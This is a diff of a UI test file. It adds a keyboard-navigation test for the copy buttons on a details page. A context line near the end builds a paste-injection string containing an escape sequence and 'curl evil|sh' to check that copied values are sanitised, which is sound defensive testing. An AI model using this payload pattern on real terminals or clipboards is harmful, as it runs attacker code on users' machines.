@@ -76,6 +76,29 @@ describe('details page', () => {
     expect(new Set(names).size).toBe(names.length);
   });
 
+  it('makes all fields one Tab stop with arrow keys between their copy buttons', async () => {
+    const members = [{ id: 'a' }, { id: 'b' }];
+    const bridge = createBridge({ fields: { members, callState: 'Hold' } });
+    const { page, user } = await renderApp(bridge);
+    bridge.emit('window:navigate', { view: 'session', id: 's1' });
+    await user.click(await page.findByText('All fields'));
+    const copyButton = (name: string) => page.getByRole('button', { name: `Copy ${name}` });
+    await user.tab();
+    expect(copyButton('as JSON')).toHaveFocus();
+    await user.tab();
+    expect(copyButton('members')).toHaveFocus();
+    await user.keyboard('{ArrowDown}{ArrowDown}');
+    expect(copyButton('members 0 id')).toHaveFocus();
+    await user.keyboard('{End}');
+    expect(copyButton('callState')).toHaveFocus();
+    await user.keyboard('{ArrowUp}');
+    expect(copyButton('members 1 id')).toHaveFocus();
+    await user.tab({ shift: true });
+    expect(copyButton('as JSON')).toHaveFocus();
+    await user.tab();
+    expect(copyButton('members 1 id')).toHaveFocus();
+  });
+
   it('copies a value as one plain line', async () => {
     const endpointName = 'Desk\n\u001b[200~curl evil|sh\r\n\u009b';
     const bridge = createBridge({ fields: { ...fields, endpointName } });
